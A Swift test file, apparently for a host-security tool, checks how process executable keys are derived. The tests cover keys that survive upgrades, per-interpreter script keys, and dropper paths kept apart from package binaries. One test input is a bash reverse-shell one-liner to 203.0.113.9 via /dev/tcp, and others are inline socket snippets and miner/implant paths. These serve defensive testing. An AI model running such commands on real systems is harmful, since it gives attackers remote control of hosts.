@testable import RarenetIdentity
import RarenetTestSupport
import Testing

/// The keys of the paths that change with deploys and upgrades, of
/// interpreters, and of the things a dropper does: one program one key,
/// and no rewrite ever hiding where a binary runs from.
@Suite struct ProcessKeyDerivationTests {
    let deriver = ProcessKeyDeriver()

    private func key(_ path: String, _ arguments: [String] = [], deleted: Bool = false, origin: ProcessOrigin = .host) -> String {
        deriver.executableKey(for: ProcessFacts(
            executable: path, executableIsDeleted: deleted, arguments: arguments,
            name: String(path.split(separator: "/").last ?? ""), origin: origin))
    }

    @Test("a deploy, an upgrade or a new build of the same program keeps its key", arguments: [
        ("/opt/app/releases/20261201T101500Z/bin/app-server", "/opt/app/releases/20261203T090000Z/bin/app-server"),
        ("/var/www/releases/20240101120000/bin/worker", "/var/www/releases/20240102093011/bin/worker"),
        ("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "/usr/lib/jvm/java-21-openjdk-amd64/bin/java"),
        ("/snap/lxd/24061/bin/lxc", "/snap/lxd/24322/bin/lxc"),
        ("/home/dev/.vscode-server/bin/1a2b3c4d5e6f70819a2b3c4d5e6f70819a2b3c4d/node",
         "/home/dev/.vscode-server/bin/fedcba9876543210fedcba9876543210fedcba98/node"),
        ("/tmp/go-build1234567/b001/store.test", "/tmp/go-build7654321/b042/store.test"),
        ("/home/runner/work/app/app/target/debug/deps/store-0123456789abcdef", "/home/runner/work/app/app/target/debug/deps/store-fedcba9876543210"),
        ("/usr/lib/postgresql/15/bin/postgres", "/usr/lib/postgresql/16/bin/postgres"),
        ("/opt/node-v20.11.0-linux-x64/bin/node", "/opt/node-v22.1.0-linux-x64/bin/node"),
        ("/usr/bin/python3.11", "/usr/bin/python3.12"),
        ("/builds/ledger/target/surefire/surefirebooter-20241201103000123_3.jar", "/builds/ledger/target/surefire/surefirebooter-20241202091500456_3.jar"),
        ("/home/runner/actions-runner/externals.2.320.0/node20/bin/node", "/home/runner/actions-runner/externals.2.321.0/node20/bin/node"),
        ("/home/runner/actions-runner/bin.2.320.0/Runner.Worker", "/home/runner/actions-runner/bin.2.321.0/Runner.Worker"),
        (".terraform/providers/registry.terraform.io/hashicorp/aws/5.81.0/linux_amd64/terraform-provider-aws_v5.81.0_x5",
         ".terraform/providers/registry.terraform.io/hashicorp/aws/5.82.1/linux_amd64/terraform-provider-aws_v5.82.1_x5"),
        ("/var/lib/rancher/rke2/data/v1.30.6-rke2r1-0a1b2c3d4e5f/bin/kubelet", "/var/lib/rancher/rke2/data/v1.31.3-rke2r1-f5e4d3c2b1a0/bin/kubelet"),
    ])
    func versionsAreRewritten(before: String, after: String) {
        #expect(key(before) == key(after))
    }

    @Test("different programs keep different keys", arguments: [
        ("/usr/bin/curl", "/usr/bin/wget"),
        ("/opt/app/releases/20261201T101500Z/bin/app-server", "/opt/app/releases/20261201T101500Z/bin/app-worker"),
        ("/tmp/go-build1/b001/store.test", "/tmp/go-build1/b001/auth.test"),
        ("/usr/sbin/sshd", "/usr/bin/sshd"),
        ("/home/runner/actions-runner/bin.2.321.0/Runner.Worker", "/home/runner/actions-runner/bin.2.321.0/Runner.Listener"),
        ("/usr/lib/x86_64-linux-gnu/libexec/tool", "/usr/lib/aarch64-linux-gnu/libexec/tool"),
        ("/opt/tools/terraform-provider-aws_v5.82.1_x5", "/opt/tools/terraform-provider-google_v5.82.1_x5"),
    ])
    func programsStayApart(one: String, other: String) {
        #expect(key(one) != key(other))
    }

    @Test func anInPlaceUpgradeOfASystemBinaryKeysAsTheFile() {
        #expect(key("/usr/share/filebeat/bin/filebeat", deleted: true) == key("/usr/share/filebeat/bin/filebeat"))
    }

    @Test func deletedMemfdAndTemporaryExecutablesStayInClassesOfTheirOwn() {
        #expect(key("/var/tmp/implant", deleted: true).hasPrefix("host:deleted:"))
        #expect(key("/memfd:payload", deleted: true).hasPrefix("host:memfd:"))
        #expect(key("/tmp/.X11-unix/.x/xmrig").hasPrefix("host:temporary:"))
        #expect(key("/dev/shm/x").hasPrefix("host:temporary:"))
        #expect(key("/home/alice/bin/tool").hasPrefix("host:other:"))
        #expect(key("/var/tmp/implant", deleted: true) != key("/var/tmp/implant"))
    }

    @Test func originsNeverShareAKey() {
        let image = ContainerIdentity(id: String(repeating: "a", count: 64), runtime: .containerd, image: "registry.example/app:1.4.2")
        let nextTag = ContainerIdentity(id: String(repeating: "b", count: 64), runtime: .containerd, image: "registry.example/app:1.4.3")
        let otherImage = ContainerIdentity(id: String(repeating: "c", count: 64), runtime: .containerd, image: "registry.example/billing:1.4.2")
        let path = "/usr/sbin/sshd"
        let keys = [key(path), key(path, origin: .container(image)), key(path, origin: .container(otherImage)), key(path, origin: .foreignNamespace),
                    key(path, origin: .container(ContainerIdentity(id: image.id, runtime: .docker)))]
        #expect(Set(keys).count == keys.count)
        #expect(key(path, origin: .container(image)) == key(path, origin: .container(nextTag)), "a rollout of the next tag is the same program")
    }

    @Test func imageRepositoriesLoseTagAndDigestButKeepARegistryPort() {
        #expect(ContainerIdentity.repository(ofImage: "docker.io/library/nginx:1.25@sha256:0123") == "docker.io/library/nginx")
        #expect(ContainerIdentity.repository(ofImage: "registry:5000/team/app:2.0") == "registry:5000/team/app")
        #expect(ContainerIdentity.repository(ofImage: "registry:5000/team/app") == "registry:5000/team/app")
        #expect(ContainerIdentity.repository(ofImage: "postgres") == "postgres")
    }

    @Test func keysByNameAndByFileLiveInDomainsOfTheirOwn() {
        let named = deriver.executableKey(for: ProcessFacts(executable: nil, name: "host:system:/usr/sbin/sshd"))
        let byFile = deriver.executableKey(for: ProcessFacts(executable: nil, executableFile: FileIdentity(device: 8 << 20 | 1, inode: 42), name: "sshd"))
        #expect(named == "name:host:system:/usr/sbin/sshd")
        #expect(byFile == "inode:8:1:42")
        #expect(named != key("/usr/sbin/sshd") && byFile != key("/usr/sbin/sshd"))
    }

    @Test("an interpreter keys on what it runs", arguments: [
        (["python3", "/opt/tools/sync.py"], "script=/opt/tools/sync.py"),
        (["python3", "-u", "-W", "ignore", "/opt/tools/sync.py", "--all"], "script=/opt/tools/sync.py"),
        (["python3", "-m", "http.server", "8001"], "module=http.server"),
        (["python3", "-c", "import socket"], "inline"),
        (["python3", "-Bc", "import socket"], "inline"),
        (["python3"], "stdin"),
    ])
    func pythonInvocations(arguments: [String], expected: String) {
        #expect(key("/usr/bin/python3.11", arguments) == "host:system:/usr/bin/python<version> " + expected)
    }

    @Test("shells, perl, node, php and java", arguments: [
        ("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"], "inline"),
        ("/usr/bin/bash", ["-bash"], "stdin"),
        ("/usr/bin/bash", ["bash", "-o", "pipefail", "/usr/local/bin/backup.sh"], "script=/usr/local/bin/backup.sh"),
        ("/usr/bin/dash", ["sh", "-lc", "id"], "inline"),
        ("/usr/bin/perl", ["perl", "-e", "use Socket"], "inline"),
        ("/usr/bin/perl", ["perl", "-Ilib", "/opt/mon/check.pl"], "script=/opt/mon/check.pl"),
        ("/usr/bin/node", ["node", "--require", "dotenv/config", "/srv/api/server.js"], "script=/srv/api/server.js"),
        ("/usr/bin/node", ["node", "--eval=require('net')"], "inline"),
        ("/usr/bin/php8.2", ["php", "-r", "fsockopen('x', 1);"], "inline"),
        ("/usr/bin/php8.2", ["php", "-f", "/var/www/cron.php"], "script=/var/www/cron.php"),
        ("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", ["java", "-Xmx2g", "-jar", "/opt/app/app-1.4.2.jar"], "jar=/opt/app/app-<version>.jar"),
        ("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", ["java", "-cp", "/opt/x/lib/*", "-Dfoo=bar", "com.example.Main"], "class=com.example.Main"),
    ])
    func otherInterpreters(path: String, arguments: [String], expected: String) {
        #expect(key(path, arguments).hasSuffix(" " + expected), "\(key(path, arguments))")
    }

    @Test func aReverseShellInInlinePythonIsNotTheEstablishedScript() {
        #expect(key("/usr/bin/python3", ["python3", "-c", "import socket,os"]) != key("/usr/bin/python3", ["python3", "/opt/tools/sync.py"]))
    }

    @Test func anyOfTheConfiguredInterpretersCountsAndOthersDoNot() throws {
        var configuration = IdentityConfiguration()
        configuration.interpreters = ["deno"]
        let custom = ProcessKeyDeriver(configuration: configuration)
        let deno = custom.executableKey(for: ProcessFacts(executable: "/usr/bin/deno", arguments: ["deno", "run.ts"], name: "deno"))
        let python = custom.executableKey(for: ProcessFacts(executable: "/usr/bin/python3", arguments: ["python3", "x.py"], name: "python3"))
        #expect(deno == "host:system:/usr/bin/deno script=run.ts")
        #expect(python == "host:system:/usr/bin/python<version>", "python3 is not a configured interpreter here")
    }

    /// Property: whatever the rewrite rules (the defaults, or hostile ones
    /// that rewrite everything to a package path), an executable in a
    /// temporary directory, a memfd or a deleted file outside the system
    /// directories never keys like a package's binary.
    @Test func noRuleMergesADropperWithAPackagePath() throws {
        let hostile = try PathRewriteRule(parsing: "^.*$ => /usr/bin/sshd")
        var configurations = [IdentityConfiguration()]
        var rewritingAll = IdentityConfiguration()
        rewritingAll.rewriteRules = [hostile]
        configurations.append(rewritingAll)
        var random = SplitMix64(seed: 15)
        let components = ["bin", "x", "go-build12", "b001", "20261201T101500Z", "0123456789abcdef0123", "1.2.3", "v2", "python3.11", ".x", "lib"]
        func randomPath(under prefix: String) -> String {
            prefix + (0..<Int.random(in: 1...5, using: &random)).map { _ in components.randomElement(using: &random)! }.joined(separator: "/")
        }
        for configuration in configurations {
            let deriver = ProcessKeyDeriver(configuration: configuration)
            for _ in 0..<2_000 {
                let package = deriver.executableKey(for: ProcessFacts(executable: randomPath(under: "/usr/"), name: "p"))
                let dropperPath = randomPath(under: ["/tmp/", "/dev/shm/", "/var/tmp/", "/memfd:", "/home/u/"].randomElement(using: &random)!)
                let deleted = dropperPath.hasPrefix("/memfd:") || dropperPath.hasPrefix("/home/") || Bool.random(using: &random)
                let dropper = deriver.executableKey(for: ProcessFacts(executable: dropperPath, executableIsDeleted: deleted, name: "d"))
                #expect(dropper != package, "\(dropperPath) keyed as \(dropper)")
                #expect(!dropper.hasPrefix("host:system:"), "\(dropperPath) keyed as \(dropper)")
            }
        }
    }

    @Test("bad rewrite rules are refused with what is wrong", arguments: [
        ("no separator", "expected 'REGEX => REPLACEMENT'"),
        ("([a-z] => x", "does not compile"),
        ("/a => $2", "uses $2 but the expression has 0 group(s)"),
        ("/(a) => $x", "must be followed by 1-9"),
        (" => x", "the expression is empty"),
    ])
    func badRules(text: String, message: String) {
        #expect {
            _ = try PathRewriteRule(parsing: text)
        } throws: { error in
            "\(error)".contains(message)
        }
    }

    @Test func groupsAreExpandedAndCounted() throws {
        let rule = try PathRewriteRule(parsing: #"^/srv/(?<site>[^/]+)/(v[0-9]+)/ => /srv/$1/<v>/"#)
        #expect(rule.apply(to: "/srv/shop/v12/bin/run") == "/srv/shop/<v>/bin/run")
        #expect(PathRewriteRule.captureGroupCount(in: #"(a)(?:b)[(](?<n>c)\(d\)"#) == 2)
    }

    @Test func theFingerprintFollowsEverythingThatDecidesAKey() throws {
        let defaults = IdentityConfiguration()
        var fewerRules = defaults
        fewerRules.rewriteRules.removeLast()
        var moreInterpreters = defaults
        moreInterpreters.interpreters.append("deno")
        #expect(defaults.fingerprint == IdentityConfiguration().fingerprint)
        #expect(Set([defaults.fingerprint, fewerRules.fingerprint, moreInterpreters.fingerprint]).count == 3)
    }
}
